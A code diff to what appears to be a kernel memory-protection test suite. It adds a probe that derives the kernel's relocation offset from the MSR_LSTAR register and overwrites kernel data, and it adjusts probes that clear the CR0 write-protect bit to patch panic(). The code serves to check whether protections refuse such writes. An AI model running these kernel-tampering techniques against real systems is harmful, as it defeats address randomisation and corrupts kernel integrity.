@@ -7,8 +7,6 @@
 #include <sys/mman.h>
 #include <sys/sysinfo.h>
 
-#define KERNEL_BASE 0xffffffff80000000 /* Linux's too, when nothing moves it */
-
 static void read_kernel_text(void)
 {
 	volatile uint64_t *at = (void *)kernel_symbol("text");
@@ -41,14 +39,26 @@ static void write_kernel_data_key(void)
 	saw("stored", "uname says %s", kernel_changed() ? OWNED : "what it said before");
 }
 
+/* The adaptive one: the register that leads system calls into the kernel tells where it is. */
+static void write_kernel_data_moved(void)
+{
+	uint32_t low, high;
+	uintptr_t by;
+
+	asm volatile("rdmsr" : "=a"(low), "=d"(high) : "c"(MSR_LSTAR));
+	by = ((uintptr_t)high << 32 | low) - kernel_symbol("gate");
+	strcpy((char *)(kernel_symbol("data") + by), OWNED);
+	saw("stored", "%lx above where it was linked; uname says %s", by, kernel_changed() ? OWNED : "what it said before");
+}
+
 /* `by` is what is added to the address that the kernel itself calls it by. */
 static void store_in_text(uintptr_t by)
 {
-	volatile uint8_t *at = (void *)(kernel_symbol("panic") + by), *there = (void *)kernel_symbol("panic");
-	uint8_t old = *there;
+	volatile uint8_t *at = (void *)(kernel_symbol("panic") + by);
+	uint8_t old = *at;
 
 	*at = 0xcc;
-	saw(*there == 0xcc ? "stored" : "refused", "the first byte of panic() was %02x and is %02x", old, *there);
+	saw(*at == 0xcc ? "stored" : "refused", "the first byte of panic() was %02x and is %02x", old, *at);
 }
 
 static void write_kernel_text(void)
@@ -61,6 +71,7 @@ static void write_kernel_text_wp(void)
 {
 	unsigned long cr0;
 
+	(void)*(volatile uint8_t *)kernel_symbol("panic"); /* who cannot read it need not open the door for others */
 	asm volatile("mov %%cr0, %0" : "=r"(cr0));
 	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~(1ul << 16)));
 	store_in_text(0);
@@ -252,6 +263,7 @@ const struct attack memory_attacks[] = {
 	{"read-kernel-data", read_kernel_data},
 	{"write-kernel-data", write_kernel_data},
 	{"write-kernel-data-key", write_kernel_data_key},
+	{"write-kernel-data-moved", write_kernel_data_moved},
 	{"write-kernel-text", write_kernel_text},
 	{"write-kernel-text-wp", write_kernel_text_wp},
 	{"write-kernel-text-alias", write_kernel_text_alias},
